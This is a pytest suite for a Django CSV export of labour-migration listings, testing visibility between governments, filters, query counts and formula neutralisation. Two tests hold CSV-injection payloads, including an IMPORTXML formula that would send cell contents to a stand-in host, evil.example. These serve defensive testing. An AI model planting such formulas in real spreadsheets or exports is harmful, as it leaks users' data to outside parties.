"""GET /api/v1/listings/export/: a CSV of the listings the caller can see, with the
list's filters, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.conftest import token_client
from tests.opportunities.conftest import create_listing, days, publish, seasonal_scheme, worker_offer

pytestmark = pytest.mark.django_db

URL = "/api/v1/listings/export/"
HEADER = [
    "id",
    "title",
    "direction",
    "scheme type",
    "status",
    "owner",
    "owner country",
    "partner countries",
    "occupations (ISCO-08 × quantity)",
    "total quantity",
    "window starts",
    "window ends",
    "application deadline",
    "published",
    "visibility",
]


def plain_scheme(**overrides: Any) -> dict[str, Any]:
    payload = seasonal_scheme(
        allocations=[],
        annual_cap=None,
        max_stay_months=None,
        stay_window_months=None,
        season_earliest_start="",
        season_latest_end="",
    )
    payload.update(overrides)
    return payload


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # a byte-order mark, so that spreadsheets read UTF-8
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def listings(spain_actor, morocco_actor, moderator) -> dict[str, Any]:
    harvest = publish(create_listing(spain_actor, seasonal_scheme()), spain_actor, moderator)
    offer = publish(create_listing(morocco_actor, worker_offer()), morocco_actor, moderator)
    spanish_draft = create_listing(
        spain_actor, plain_scheme(title="Unpublished olive scheme", summary="Olive picking in Jaén.")
    )
    moroccan_draft = create_listing(morocco_actor, worker_offer(title="Unpublished offer of drivers"))
    return {"harvest": harvest, "offer": offer, "spanish_draft": spanish_draft, "moroccan_draft": moroccan_draft}


@pytest.fixture
def spain_api(rosa, spain):
    return token_client(rosa, spain)


def test_it_answers_a_csv_attachment(listings, spain_api):
    response = spain_api.get(URL)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert 'filename="corridor-listings.csv"' in response["Content-Disposition"]
    assert response.streaming


def test_it_has_a_header_and_one_row_per_listing_the_caller_can_see(listings, spain_api):
    rows = read_csv(spain_api.get(URL))
    assert sorted(row["id"] for row in rows) == sorted(
        str(listings[name].pk) for name in ("harvest", "offer", "spanish_draft")
    )


def test_it_never_exports_another_governments_drafts(listings, spain_api, charlie_api):
    spanish = {row["title"] for row in read_csv(spain_api.get(URL))}
    moroccan = {row["title"] for row in read_csv(charlie_api.get(URL))}
    assert "Unpublished offer of drivers" not in spanish
    assert "Unpublished olive scheme" in spanish
    assert "Unpublished olive scheme" not in moroccan
    assert "Unpublished offer of drivers" in moroccan


def test_it_never_exports_a_listing_for_partners_only_to_others(
    spain_actor, moderator, spain_api, charlie_api, bob_api
):
    for_senegal = publish(
        create_listing(
            spain_actor,
            plain_scheme(title="For Senegal only", partner_countries=["SN"], visibility="partners", allocations=[]),
        ),
        spain_actor,
        moderator,
    )
    assert [row["id"] for row in read_csv(spain_api.get(URL))] == [str(for_senegal.pk)]
    assert read_csv(charlie_api.get(URL)) == []  # Morocco is not a partner
    assert read_csv(bob_api.get(URL)) == []  # nor is Italy


def test_a_row_carries_the_listing_as_its_readers_see_it(listings, charlie_api):
    harvest = listings["harvest"]
    (row,) = [row for row in read_csv(charlie_api.get(URL)) if row["id"] == str(harvest.pk)]
    assert row == {
        "id": str(harvest.pk),
        "title": "Seasonal red-fruit harvest, Huelva",
        "direction": "demand",
        "scheme type": "seasonal",
        "status": "published",
        "owner": "Ministry of Inclusion, Social Security and Migration",
        "owner country": "ES",
        "partner countries": "MA SN",
        "occupations (ISCO-08 × quantity)": "9211×950",
        "total quantity": "950",
        "window starts": days(60),
        "window ends": days(240),
        "application deadline": days(30),
        "published": harvest.published_at.isoformat(),
        "visibility": "members",
    }


def test_it_lists_every_occupation_line(spain_actor, spain_api):
    create_listing(
        spain_actor,
        plain_scheme(occupation_lines=[{"isco_code": "9211", "quantity": 10}, {"isco_code": "6111", "quantity": 3}]),
    )
    (row,) = read_csv(spain_api.get(URL))
    assert row["occupations (ISCO-08 × quantity)"] == "9211×10 6111×3"
    assert row["total quantity"] == "13"
    assert row["published"] == ""


def test_it_applies_the_lists_filters(listings, spain_api):
    def titles(**params: Any) -> list[str]:
        return [row["title"] for row in read_csv(spain_api.get(URL, params))]

    assert titles(direction="supply") == ["Experienced farm workers ready for seasonal contracts"]
    assert titles(status="draft") == ["Unpublished olive scheme"]
    assert titles(owner_country="ma") == ["Experienced farm workers ready for seasonal contracts"]
    assert titles(q="strawberry") == ["Seasonal red-fruit harvest, Huelva"]
    assert titles(occupation="92", status="published", ordering="total_quantity") == [
        "Experienced farm workers ready for seasonal contracts",
        "Seasonal red-fruit harvest, Huelva",
    ]
    assert titles(occupation="2221") == []


def test_a_bad_filter_is_a_400_naming_it_not_a_broken_file(listings, spain_api):
    response = spain_api.get(URL, {"direction": "sideways"})
    assert response.status_code == 400
    assert list(response.json()) == ["direction"]


def test_it_is_closed_to_anonymous_callers(listings, anon_api):
    assert anon_api.get(URL).status_code == 401


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example","Apply here")',
        "+34 600 000 000 hotline",
        "-1+1 places",
        "@SUM(A1:A9)",
    ],
)
def test_it_neutralises_spreadsheet_formulas(spain_actor, spain_api, title):
    create_listing(spain_actor, plain_scheme(title=title))
    (row,) = read_csv(spain_api.get(URL))
    assert row["title"] == "'" + title


def test_it_leaves_ordinary_text_alone(spain_actor, spain_api):
    title = 'Harvest, "red fruit" and berries: 2 000 places; pay = €1 134'
    create_listing(spain_actor, plain_scheme(title=title))
    (row,) = read_csv(spain_api.get(URL))
    assert row["title"] == title


def test_it_exports_every_listing_not_one_page(spain_actor, moderator, charlie_api):
    for n in range(30):
        publish(create_listing(spain_actor, plain_scheme(title=f"Scheme {n:02}")), spain_actor, moderator)
    rows = read_csv(charlie_api.get(URL, {"ordering": "published_at"}))
    assert [row["title"] for row in rows] == [f"Scheme {n:02}" for n in range(30)]


def _export_queries(client) -> int:
    client.get(URL)  # the token's last use is written at most once a minute: not part of the measure
    with CaptureQueriesContext(connection) as captured:
        read_csv(client.get(URL))
    return len(captured)


def test_the_export_costs_the_same_queries_for_3_or_30_listings(spain_actor, moderator, charlie_api):
    def post(count: int) -> None:
        for _n in range(count):
            lines = [{"isco_code": "9211", "quantity": 10}, {"isco_code": "6111", "quantity": 3}]
            publish(create_listing(spain_actor, plain_scheme(occupation_lines=lines)), spain_actor, moderator)

    post(3)
    small = _export_queries(charlie_api)
    post(27)
    # Authentication (1: the token with its membership), the actor, the listings, their
    # lines, their pending revisions.
    assert _export_queries(charlie_api) == small == 4


def test_it_neutralises_a_formula_in_the_owners_name(spain, spain_actor, spain_api):
    spain.name = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
    spain.save(update_fields=["name"])
    create_listing(spain_actor, plain_scheme())
    (row,) = read_csv(spain_api.get(URL))
    assert row["owner"] == "'" + spain.name
